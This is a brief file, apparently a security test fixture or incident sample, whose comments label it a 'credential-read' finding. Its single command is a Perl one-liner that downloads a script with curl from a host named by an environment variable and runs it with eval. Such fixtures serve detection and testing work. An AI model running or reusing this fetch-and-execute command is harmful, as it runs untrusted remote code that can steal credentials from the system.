# incident: a test that fetches a class from the network and runs it within the interpreter (perl stands for the virtual machine)
# finding: credential-read
# needs: perl curl
perl -e 'my $code = `curl -s http://$ENV{DROP}/raw/payload.pl`; eval $code;'
